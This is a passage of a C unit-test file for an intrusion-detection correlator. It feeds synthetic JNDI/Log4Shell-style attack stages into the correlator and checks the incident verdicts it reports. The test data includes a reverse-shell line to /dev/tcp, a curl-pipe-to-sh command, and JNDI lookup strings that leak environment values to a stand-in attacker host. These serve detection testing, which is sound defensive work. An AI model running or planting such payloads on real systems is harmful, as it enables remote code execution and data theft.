/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
/* cmocka.h wants the four above */
#include <cmocka.h>

#include "correlate/incident.h"
#include "channel/fact.h"
#include "support/sample.h"
#include "support/sighted.h"

#include <stdio.h>

/* Stories made of hand-made records. Host 10.0.0.n is at home, 203.0.113.n is not. */

#define S  UINT64_C(1000000)
#define T0 (1000 * S)

static const char rules_text[] =
    "alert ip any any -> any any (msg:\"f\"; jndi.stage; content:\"o\"; sid:1; rev:1;)\n"
    "alert ip any any -> any any (msg:\"v\"; jndi.verdict; content:\"vulnerable\"; sid:2; rev:1;)\n"
    "alert ip any any -> any any (msg:\"d\"; jndi.verdict; content:\"delivered\"; sid:3; rev:1;)\n"
    "alert ip any any -> any any (msg:\"c\"; jndi.verdict; content:\"compromised\"; sid:4; rev:1;)\n";

struct setting {
    struct config *config;
    struct ruleset *rules;
    struct correlate *correlate;
    char told[1024]; /* "v10.0.0.1 d10.0.0.1 ": each alert about an incident: verdict, victim */
    uint64_t id, origin;
    unsigned n_leaks, confidence;
    const struct incident *incident; /* the last one told of; good until the restart */
    bool finding_has_incident;
    char dn[64]; /* of the last finding */
};

static void note(void *arg, const struct alert *a)
{
    struct setting *t = arg;
    char victim[ADDR_TEXT];
    size_t len = strlen(t->told);

    if (!a->story) {
        struct bytes dn = attrs_get(&a->record->attrs, ATTR_LDAP_REQUEST_DN);

        t->finding_has_incident = a->incident != NULL;
        snprintf(t->dn, sizeof t->dn, "%.*s", (int)dn.len, dn.len ? (const char *)dn.p : "");
        return;
    }
    assert_non_null(a->incident);
    addr_print(&a->incident->victim, victim);
    snprintf(t->told + len, sizeof t->told - len, "%c%s ", verdict_name(a->verdict)[0], victim + 7);
    t->id = a->incident->id;
    t->origin = a->incident->origin;
    t->n_leaks = 0;
    t->confidence = a->incident_confidence;
    t->incident = a->incident;
    for (const struct leak *l = a->incident->leaks; l; l = l->next)
        t->n_leaks++;
}

static int setup(void **state)
{
    static struct setting t;
    struct complaint why = {{0}};

    count_reset();
    t = (struct setting){.config = config_new()};
    if (!t.config || !config_set(t.config, "correlate.memcap=1mb", &why))
        return -1;
    t.rules = ruleset_new(t.config, &why);
    if (!t.rules || !rules_all_added(t.rules, "test.rules", BYTES_LIT(rules_text), &why)) {
        print_error("%s\n", why.text);
        return -1;
    }
    t.correlate = correlate_new(t.config, t.rules, note, &t);
    *state = &t;
    return t.correlate ? 0 : -1;
}

static int teardown(void **state)
{
    struct setting *t = *state;

    correlate_free(t->correlate);
    ruleset_free(t->rules);
    config_free(t->config);
    count_reset();
    return 0;
}

static void restart(struct setting *t)
{
    correlate_free(t->correlate);
    t->correlate = correlate_new(t->config, t->rules, note, t);
    t->told[0] = '\0';
    count_reset();
}

static struct addr home(uint8_t n)
{
    const uint8_t b[4] = {10, 0, 0, n};

    return addr_v4(b);
}

static struct addr out(uint8_t n)
{
    const uint8_t b[4] = {203, 0, 113, n};

    return addr_v4(b);
}

/* One finding; ids and values by pairs, ended by ATTR_N. side: who sends, 0 being the client. */
static void finding(struct setting *t, struct addr client, struct addr server, uint16_t port, unsigned side,
                    const char *app, uint64_t ts_us, const char *stage, ...)
{
    struct sample s;
    va_list list;
    int id;

    sample_lookup(&s);
    s.rule.sid = 1;
    s.flow.end[0].addr = client;
    s.flow.end[1].addr = server;
    s.flow.end[1].port = port;
    s.flow.client = 0;
    s.chunk.side = side;
    s.chunk.ts_us = ts_us;
    s.field.app_proto = app;
    s.field.http = NULL;
    s.attrs.n = 0;
    attrs_add(&s.attrs, ATTR_JNDI_STAGE, bytes_str(stage));
    va_start(list, stage);
    while ((id = va_arg(list, int)) != ATTR_N)
        attrs_add(&s.attrs, (enum attr_id)id, bytes_str(va_arg(list, const char *)));
    va_end(list);
    assert_true(sample_seal(&s, STAGE_OTHER));
    correlate_clock(t->correlate, ts_us);
    correlate_record(t->correlate, &s.record);
    sample_drop(&s);
}

static void lookup(struct setting *t, uint8_t victim, const char *name, uint64_t ts_us)
{
    finding(t, out(200), home(victim), 8080, 0, "http", ts_us, "lookup", ATTR_JNDI_NAME, name, ATTR_N);
}

static void callback(struct setting *t, uint8_t victim, uint8_t server, const char *dn, uint64_t ts_us)
{
    finding(t, home(victim), out(server), 1389, 0, "ldap", ts_us, "callback", ATTR_LDAP_CLIENT, "jndi",
            ATTR_LDAP_REQUEST_DN, dn, ATTR_N);
}

static void reference(struct setting *t, uint8_t victim, uint8_t server, const char *codebase, uint64_t ts_us)
{
    finding(t, home(victim), out(server), 1389, 1, "ldap", ts_us, "reference", ATTR_JAVA_FACTORY, "Exploit",
            ATTR_JAVA_CODEBASE, codebase, ATTR_N);
}

static void class_fetch(struct setting *t, uint8_t victim, uint8_t server, const char *java, uint64_t ts_us)
{
    finding(t, home(victim), out(server), 8888, 1, "http", ts_us, "class_delivery", ATTR_JAVA_CLIENT, java,
            ATTR_N);
}

static void connection_by(struct setting *t, uint8_t proto, uint8_t client, struct addr server, uint16_t port,
                          enum connection_outcome outcome, const char *app, uint64_t ts_us)
{
    struct fact_connection c = {.client = home(client),
                                .server = server,
                                .client_port = 40000,
                                .server_port = port,
                                .proto = proto,
                                .outcome = (uint8_t)outcome,
                                .ts_us = ts_us};
    struct fact f = {.ts_us = ts_us, .packet = 7, .flow_id = ts_us};
    uint8_t space[FACT_MAX];

    snprintf(c.app_proto, sizeof c.app_proto, "%s", app);
    fact_put_connection(&f, &c, space);
    correlate_clock(t->correlate, ts_us);
    correlate_fact(t->correlate, &f);
}

static void connection(struct setting *t, uint8_t client, struct addr server, uint16_t port,
                       enum connection_outcome outcome, const char *app, uint64_t ts_us)
{
    connection_by(t, PROTO_TCP, client, server, port, outcome, app, ts_us);
}

static void dns_for(struct setting *t, uint8_t client, const char *name, struct addr answer, uint32_t ttl_s,
                    uint64_t ts_us)
{
    struct fact_name n = {.client = home(client),
                          .server = home(53),
                          .server_port = 53,
                          .type = 1,
                          .answered = answer.version != 0,
                          .n_addrs = answer.version != 0,
                          .name_len = (uint8_t)strlen(name),
                          .ttl_s = ttl_s};
    struct fact f = {.ts_us = ts_us, .packet = 8, .flow_id = ts_us};
    uint8_t space[FACT_MAX];

    n.addrs[0] = answer;
    snprintf(n.name, sizeof n.name, "%s", name);
    fact_put_name(&f, &n, space);
    correlate_clock(t->correlate, ts_us);
    correlate_fact(t->correlate, &f);
}

static void dns(struct setting *t, uint8_t client, const char *name, struct addr answer, uint64_t ts_us)
{
    dns_for(t, client, name, answer, 0, ts_us);
}

static void told_is(struct setting *t, const char *what)
{
    correlate_finish(t->correlate);
    assert_string_equal(t->told, what);
    restart(t);
}

static const struct addr nobody;

static void a_whole_attack_is_one_incident(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    assert_true(t->finding_has_incident);
    callback(t, 1, 9, "a", T0 + S);
    reference(t, 1, 9, "http://203.0.113.9:8888/", T0 + S);
    class_fetch(t, 1, 9, "yes", T0 + 2 * S);
    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
    told_is(t, "v1 d1 c1 ");
}

/* Each order of four sightings whose times stay the same. */
static void any_order_gives_the_same_verdict(void **state)
{
    struct setting *t = *state;

    for (unsigned order = 0; order < 24; order++) {
        unsigned left[4] = {0, 1, 2, 3}, n = 4, code = order;
        size_t len;

        while (n > 0) {
            unsigned at = code % n, what = left[at];

            code /= n;
            left[at] = left[--n];
            if (what == 0)
                lookup(t, 1, "ldap://evil.example:1389/a", T0);
            else if (what == 1)
                dns(t, 1, "evil.example", out(9), T0 + S);
            else if (what == 2)
                callback(t, 1, 9, "a", T0 + 2 * S);
            else
                reference(t, 1, 9, "", T0 + 3 * S); /* no codebase: all of the payload */
        }
        correlate_finish(t->correlate);
        len = strlen(t->told);
        assert_true(len >= 3);
        assert_string_equal(t->told + len - 3, "d1 ");
        assert_true(len <= 9);
        restart(t);
    }
}

/* Known before what delivered the payload, and before its lookup. */
static void what_came_of_it_may_be_known_first(void **state)
{
    struct setting *t = *state;

    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    reference(t, 1, 9, "", T0 + 2 * S);
    told_is(t, "d1 c1 ");
    /* To a host that the class names, by its address alone, and with a port. */
    for (unsigned with_port = 0; with_port < 2; with_port++) {
        lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
        callback(t, 1, 9, "a", T0 + S);
        connection(t, 1, out(77), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
        finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
                ATTR_JAVA_HOST, with_port ? "203.0.113.77:4444" : "203.0.113.77", ATTR_N);
        told_is(t, "v1 d1 c1 ");
    }
    /* Named by a URL of the class, by a command in it, by the command in the lookup's own name. */
    for (unsigned how = 0; how < 3; how++) {
        static const char *const texts[] = {"http://203.0.113.77:4444/x",
                                            "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
                                            "curl -s 'http://203.0.113.77:4444/x'|sh"};
        int id = how == 0 ? ATTR_JAVA_URL : how == 1 ? ATTR_JAVA_COMMAND : ATTR_JAVA_CLIENT;

        finding(t, out(200), home(1), 8080, 0, "http", T0, "lookup", ATTR_JNDI_NAME,
                "ldap://203.0.113.9:1389/a", how == 2 ? ATTR_JNDI_COMMAND : ATTR_JNDI_KIT, texts[how],
                ATTR_N);
        callback(t, 1, 9, "a", T0 + S);
        finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
                id, how == 2 ? "yes" : texts[how], ATTR_N);
        connection(t, 1, out(77), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
        told_is(t, "v1 d1 c1 ");
    }
    /* It always calls there. */
    connection(t, 1, out(77), 443, CONNECTION_TALKED, "tls", T0 - S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
            ATTR_JAVA_URL, "https://203.0.113.77/x", ATTR_N);
    connection(t, 1, out(77), 443, CONNECTION_TALKED, "tls", T0 + 3 * S);
    told_is(t, "d1 ");
    /* Everybody calls there. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
            ATTR_JAVA_URL, "https://203.0.113.77/x", ATTR_N);
    for (uint8_t n = 11; n < 14; n++)
        connection(t, n, out(77), 443, CONNECTION_TALKED, "tls", T0 - S);
    connection(t, 1, out(77), 443, CONNECTION_TALKED, "tls", T0 + 3 * S);
    told_is(t, "d1 ");
    /* It was there before the payload. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + S);
    reference(t, 1, 9, "", T0 + 2 * S);
    told_is(t, "d1 ");
    /* The lookup last: told once more, with it. */
    callback(t, 1, 9, "a", T0 + S);
    reference(t, 1, 9, "", T0 + 2 * S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    told_is(t, "v1 d1 d1 ");
}

static void a_clock_that_was_set_back_delays_nothing(void **state)
{
    struct setting *t = *state;

    lookup(t, 2, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 2, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    correlate_clock(t->correlate, T0 + 86400 * S);
    assert_string_equal(t->told, "v2 ");
    lookup(t, 1, "ldap://203.0.113.8:1389/a", T0 + 2 * S);
    connection(t, 1, out(8), 1389, CONNECTION_REFUSED, "", T0 + 3 * S);
    correlate_clock(t->correlate, T0 + 60 * S);
    assert_string_equal(t->told, "v2 v1 ");
    told_is(t, "v2 v1 ");
}

static void the_callback_may_be_refused_or_never_answered(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://203.0.113.9/a", T0); /* JNDI's own port */
    connection(t, 1, out(9), 389, CONNECTION_SILENT, "", T0 + S);
    told_is(t, "v1 ");
    lookup(t, 1, "ldaps://203.0.113.9:8443/a", T0);
    connection(t, 1, out(9), 8443, CONNECTION_TALKED, "tls", T0 + S);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
    told_is(t, "v1 ");
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S); /* told before its cause */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://evil.example:1389/a", T0);
    dns(t, 1, "evil.example", nobody, T0 + S); /* asked for, and there is none */
    told_is(t, "v1 ");
}

static void datagrams_may_be_unreachable(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "dns://203.0.113.9/a", T0);
    connection_by(t, PROTO_UDP, 1, out(9), 53, CONNECTION_UNREACHABLE, "", T0 + S);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0); /* which sends none */
    connection_by(t, PROTO_UDP, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
    told_is(t, "");
}

/* What was in vain is remembered until it is known why it was tried; each protocol has ports of its own. */
static void what_is_unreachable_may_be_known_before_its_lookup(void **state)
{
    struct setting *t = *state;

    connection(t, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    told_is(t, "v1 ");
    connection_by(t, PROTO_UDP, 1, out(9), 53, CONNECTION_UNREACHABLE, "", T0 + S);
    lookup(t, 1, "dns://203.0.113.9/a", T0);
    told_is(t, "v1 ");
    connection_by(t, PROTO_UDP, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0); /* which sends no datagrams */
    told_is(t, "");
    /* Neither hides the other, whichever comes first. */
    for (unsigned order = 0; order < 2; order++) {
        connection_by(t, order ? PROTO_TCP : PROTO_UDP, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
        connection_by(t, order ? PROTO_UDP : PROTO_TCP, 1, out(9), 1389, CONNECTION_UNREACHABLE, "", T0 + S);
        lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
        told_is(t, "v1 ");
    }
    /* The same, tried before there was a lookup: it is not its effect. */
    connection_by(t, PROTO_UDP, 1, out(9), 53, CONNECTION_UNREACHABLE, "", T0 - S);
    lookup(t, 1, "dns://203.0.113.9/a", T0);
    told_is(t, "");
    /* A scan of datagrams hits one that is waited for, and is known by the rest. */
    for (uint8_t n = 0; n < 12; n++)
        connection_by(t, PROTO_UDP, 1, out((uint8_t)(100 + n)), 53, CONNECTION_UNREACHABLE, "", T0 + S);
    connection_by(t, PROTO_UDP, 1, out(9), 53, CONNECTION_UNREACHABLE, "", T0 + S);
    lookup(t, 1, "dns://203.0.113.9/a", T0);
    told_is(t, "");
}

/* A lookup of a name at later_us, a connection right behind it, an answer at answer_us: in every order. */
static void placed_is(struct setting *t, uint64_t answer_us, uint32_t ttl_s, uint64_t later_us,
                      const char *told)
{
    static const char *const orders[] = {"dlc", "dcl", "ldc", "lcd", "cld", "cdl"};

    for (size_t k = 0; k < sizeof orders / sizeof *orders; k++) {
        for (const char *what = orders[k]; *what; what++)
            if (*what == 'd') /* of another client: nobody's step, but it says where the name leads */
                dns_for(t, 2, "evil.example", out(9), ttl_s, answer_us);
            else if (*what == 'l')
                lookup(t, 1, "ldap://evil.example:1389/a", later_us);
            else
                connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", later_us + S);
        told_is(t, told);
    }
}

#define MINUTE (60 * S)
#define HOUR   (60 * MINUTE)
#define LATER  (T0 + 240 * HOUR)

static void a_name_resolved_long_ago_places_nothing(void **state)
{
    struct setting *t = *state;

    placed_is(t, LATER - 2 * HOUR, 3 * 3600, LATER, "v1 ");
    placed_is(t, LATER - 4 * HOUR, 3 * 3600, LATER, "");
    placed_is(t, LATER + 2 * HOUR, 3 * 3600, LATER, "v1 "); /* an earlier one was not captured */
    placed_is(t, LATER + 4 * HOUR, 3 * 3600, LATER, "");
    placed_is(t, LATER - 9 * MINUTE, 0, LATER, "v1 "); /* a JDK keeps it for longer than it may */
    placed_is(t, LATER - 11 * MINUTE, 0, LATER, "");
    placed_is(t, LATER - 23 * HOUR, UINT32_MAX, LATER, "v1 ");
    placed_is(t, LATER - 25 * HOUR, UINT32_MAX, LATER, "");
}

static void a_place_is_left_when_its_name_goes_elsewhere(void **state)
{
    struct setting *t = *state;

    /* The incident goes on, its address does not; then it is the name's again. */
    for (unsigned again = 0; again < 2; again++) {
        lookup(t, 1, "ldap://evil.example:1389/a", LATER);
        dns_for(t, 2, "evil.example", out(9), 60, LATER + S);
        if (again)
            dns_for(t, 2, "evil.example", out(9), 60, LATER + 2 * HOUR);
        connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", LATER + 2 * HOUR + S);
        told_is(t, again ? "v1 " : "");
    }
    /* A server that spoke as the callback is the attacker's whatever the name does. */
    lookup(t, 1, "ldap://evil.example:1389/a", LATER);
    dns_for(t, 2, "evil.example", out(9), 60, LATER + S);
    callback(t, 1, 9, "a", LATER + 2 * S);
    reference(t, 1, 9, "", LATER + 2 * S);
    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", LATER + 2 * HOUR);
    told_is(t, "v1 d1 c1 ");
    /* A callback at an address that was the name's a week ago is another's. */
    dns_for(t, 2, "evil.example", out(9), 60, LATER - 168 * HOUR);
    callback(t, 1, 9, "a", LATER + S);
    assert_true(t->finding_has_incident);
    lookup(t, 1, "ldap://evil.example:1389/a", LATER);
    correlate_finish(t->correlate);
    assert_string_equal(t->incident->host, "203.0.113.9");
    assert_true(t->incident->lookup_us == UINT64_MAX);
    told_is(t, "v1 ");
}

/* That it was made and what it speaks are two sightings of one connection. */
static void a_connection_and_its_words_count_once(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    callback(t, 1, 9, "a", T0 + S);
    reference(t, 1, 9, "http://203.0.113.9:8888/", T0 + S);
    class_fetch(t, 1, 9, "yes", T0 + S);
    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + 2 * S);
    connection(t, 1, out(9), 4444, CONNECTION_TALKED, "failed", T0 + 2 * S);
    correlate_finish(t->correlate);
    assert_int_equal(incident_seen(t->incident, STAGE_SECOND)->n, 1);
    told_is(t, "v1 d1 c1 ");
}

static void what_does_not_promote(void **state)
{
    struct setting *t = *state;

    /* Another host visits the server later. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 2, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    connection(t, 2, out(9), 1389, CONNECTION_TALKED, "http", T0 + 2 * S);
    told_is(t, "");
    /* An analyst on the victim looks at it with wget. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1389, CONNECTION_TALKED, "http", T0 + S);
    told_is(t, "");
    /* He fetches the class, too. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    class_fetch(t, 1, 9, "no", T0 + S);
    told_is(t, "");
    /* A connection that says nothing is no client of JNDI's. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1389, CONNECTION_ESTABLISHED, "", T0 + S);
    told_is(t, "");
    /* Another port. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1390, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "");
    /* A habit: it called there before. */
    connection(t, 1, out(9), 443, CONNECTION_REFUSED, "", T0 - S);
    lookup(t, 1, "ldap://203.0.113.9:443/a", T0);
    connection(t, 1, out(9), 443, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "");
    /* It called before, and not since. */
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 - S);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    told_is(t, "");
    /* The scanner's own machine is at home, and calls its own server. */
    finding(t, home(5), home(1), 8080, 0, "http", T0, "lookup", ATTR_JNDI_NAME, "ldap://203.0.113.9:1389/a",
            ATTR_N);
    connection(t, 5, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "");
}

/* An error page that repeats the lookup makes no incident: its sender is no victim of what it wrote itself.
 */
static void an_echo_is_no_incident(void **state)
{
    struct setting *t = *state;
    const char *name = "ldap://203.0.113.9:1389/a";

    finding(t, home(5), home(1), 8080, 0, "http", T0, "lookup", ATTR_JNDI_NAME, name, ATTR_N);
    finding(t, home(5), home(1), 8080, 1, "http", T0 + S, "lookup", ATTR_JNDI_NAME, name, ATTR_N);
    connection(t, 5, out(9), 1389, CONNECTION_REFUSED, "", T0 + 2 * S);
    told_is(t, "");
    /* The same text from a server that nobody sent it to. */
    finding(t, home(5), home(1), 8080, 1, "http", T0 + S, "lookup", ATTR_JNDI_NAME, name, ATTR_N);
    connection(t, 5, out(9), 1389, CONNECTION_REFUSED, "", T0 + 2 * S);
    told_is(t, "v5 ");
}

static void nobody_calls_back_for_a_name_that_no_jdk_follows(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "LDAP://203.0.113.9:1389/a", T0);
    assert_false(t->finding_has_incident);
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "");
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    assert_true(t->finding_has_incident);
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    told_is(t, "v1 ");
}

static void popular_places_and_scans_do_not_promote(void **state)
{
    struct setting *t = *state;

    for (uint8_t n = 11; n < 14; n++)
        connection(t, n, out(9), 443, CONNECTION_SILENT, "", T0 - S);
    lookup(t, 1, "ldap://203.0.113.9:443/a", T0);
    connection(t, 1, out(9), 443, CONNECTION_SILENT, "", T0 + S);
    told_is(t, "");
    for (uint8_t n = 11; n < 14; n++)
        dns(t, n, "cdn.example.net", nobody, T0 - S);
    lookup(t, 1, "ldap://cdn.example.net/a", T0);
    dns(t, 1, "cdn.example.net", nobody, T0 + S);
    told_is(t, "");
    /* The port that the payload names is one of many. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    for (uint16_t port = 1380; port < 1400; port++)
        connection(t, 1, out(9), port, CONNECTION_REFUSED, "", T0 + S + port);
    told_is(t, "");
    assert_int_equal(counters[COUNT_CORRELATE_UNRELATED], 0); /* counted before the restart */
}

static void a_callback_without_its_lookup_is_a_story_too(void **state)
{
    struct setting *t = *state;

    callback(t, 1, 9, "a", T0);
    reference(t, 1, 9, "http://203.0.113.9:8888/", T0);
    class_fetch(t, 1, 9, "yes", T0 + S);
    told_is(t, "v1 d1 ");
    finding(t, home(1), home(9), 1389, 0, "ldap", T0, "callback", ATTR_LDAP_CLIENT, "jndi", ATTR_N);
    told_is(t, ""); /* a directory at home */
    finding(t, out(9), home(1), 1389, 0, "ldap", T0, "callback", ATTR_LDAP_CLIENT, "jndi", ATTR_N);
    told_is(t, ""); /* somebody else's victim */
}

/* At most 60, and less the less an attack it need be. */
static void unseen(struct setting *t, struct addr server, const char *agent, const char *content,
                   const char *api, const char *command, unsigned sure)
{
    finding(t, home(1), server, 8888, 1, "http", T0, "class_delivery", ATTR_JAVA_CLIENT, "yes",
            ATTR_JAVA_CONTENT, content, ATTR_HTTP_USER_AGENT, agent, ATTR_JAVA_API, api, ATTR_JAVA_COMMAND,
            command, ATTR_N);
    assert_int_equal(t->told[0] ? t->confidence : 0, sure);
    told_is(t, sure ? "d1 " : "");
}

static void a_class_without_its_lookup(void **state)
{
    struct setting *t = *state;

    /* One that runs a command, from wherever it comes. */
    unseen(t, home(9), "Java/17.0.15", "class", "Runtime.exec", "/bin/sh", 60);
    unseen(t, out(9), "Java/1.8.0_181", "class", "ProcessBuilder", "id", 60);
    unseen(t, home(9), "Java/1.8.0_181", "class", "Runtime.exec", "", 0);
    unseen(t, home(9), "Java/1.8.0_181", "class", "Socket", "/bin/sh", 0);
    /* Any other, across the border, to a JVM that follows references to classes. */
    unseen(t, home(9), "Java/1.8.0_181", "class", "URL", "", 0);
    unseen(t, out(9), "Java/1.8.0_181", "class", "URL", "", 50);
    unseen(t, out(9), "Java/1.8.0_191", "class", "URL", "", 0);
    unseen(t, out(9), "Java/1.7.0_201", "class", "URL", "", 0);
    unseen(t, out(9), "Java/1.7.0", "class", "URL", "", 50);
    unseen(t, out(9), "Java/1.5.0_22", "class", "URL", "", 50);
    unseen(t, out(9), "Java/9.0.4", "class", "URL", "", 50);
    unseen(t, out(9), "Java/11", "class", "URL", "", 50);
    unseen(t, out(9), "Java/11.0.1", "class", "URL", "", 0);
    unseen(t, out(9), "Java/17.0.15", "class", "URL", "", 0);
    unseen(t, out(9), "Mozilla/4.0 (Windows 7 6.1) Java/1.6.0_45", "class", "URL", "", 0); /* an applet's */
    unseen(t, out(9), "Maven Java/17.0.15", "class", "URL", "", 0);
    /* JARs are what build tools and class loaders fetch all day, whatever lies in them. */
    unseen(t, out(9), "Java/1.8.0_181", "jar", "", "", 0);
    /* Where all go. */
    for (uint8_t n = 2; n < 5; n++)
        connection(t, n, out(9), 8888, CONNECTION_TALKED, "http", T0 - S);
    unseen(t, out(9), "Java/1.8.0_181", "class", "URL", "", 0);
    /* Its lookup is seen only now. */
    finding(t, home(1), out(9), 8888, 1, "http", T0 + S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
            ATTR_JAVA_CONTENT, "class", ATTR_HTTP_USER_AGENT, "Java/1.8.0_181", ATTR_N);
    assert_int_equal(t->confidence, 50);
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    assert_int_equal(t->confidence, 80);
    told_is(t, "d1 d1 ");
}

static void a_second_victim_is_linked_to_the_first(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    callback(t, 2, 9, "a", T0 + S);
    assert_string_equal(t->told, "v2 ");
    assert_true(t->origin != 0 && t->origin != t->id);
    restart(t);
    /* The same, with the string seen on its way. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    finding(t, home(1), home(2), 514, 0, "syslog", T0 + S, "lookup", ATTR_JNDI_NAME,
            "ldap://203.0.113.9:1389/a", ATTR_N);
    callback(t, 2, 9, "a", T0 + 2 * S);
    assert_string_equal(t->told, "v2 ");
    assert_true(t->origin != 0 && t->origin != t->id);
    restart(t);
    /* A tool's search in that shape. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    finding(t, home(2), out(9), 1389, 0, "ldap", T0 + S, "callback", ATTR_LDAP_CLIENT, "jndi-like", ATTR_N);
    assert_string_equal(t->told, "");
    restart(t);
}

static void values_come_back_in_the_callback(void **state)
{
    struct setting *t = *state;

    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
    callback(t, 1, 9, "tomcat", T0 + S);
    assert_int_equal(t->n_leaks, 1);
    assert_string_equal(t->dn, "t****t");
    told_is(t, "v1 ");
    callback(t, 1, 9, "tomcat", T0 + S); /* told before its cause, as long as nobody knew what it carries */
    assert_string_equal(t->dn, "tomcat");
    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
    assert_int_equal(t->n_leaks, 1);
    told_is(t, "v1 v1 ");
    t->config->show_secrets = true;
    restart(t);
    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
    correlate_clock(t->correlate, T0 + 60 * S);
    assert_string_equal(t->told, "v1 ");
    callback(t, 1, 9, "tomcat", T0 + 61 * S); /* a leak is news in itself */
    assert_string_equal(t->dn, "tomcat");
    told_is(t, "v1 v1 ");
    t->config->show_secrets = false;
    restart(t);
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S);
    assert_int_equal(t->n_leaks, 1);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S); /* its resolver asks */
    assert_int_equal(t->n_leaks, 1);
    told_is(t, "v1 ");
    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S); /* told before its cause */
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    assert_int_equal(t->n_leaks, 1);
    told_is(t, "v1 ");
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    dns(t, 1, "tomcat.y.evil.example", nobody, T0 + S);
    told_is(t, "");
}

/* Whichever is known first: what was asked of the directory, the fetch, the lookup. */
static void values_come_back_in_a_fetch(void **state)
{
    struct setting *t = *state;

    for (unsigned order = 0; order < 6; order++) {
        static const unsigned orders[6][3] = {{0, 1, 2}, {0, 2, 1}, {1, 0, 2},
                                              {1, 2, 0}, {2, 0, 1}, {2, 1, 0}};

        for (unsigned k = 0; k < 3; k++)
            if (orders[order][k] == 0)
                lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
            else if (orders[order][k] == 1)
                callback(t, 1, 9, "tomcat", T0 + S);
            else
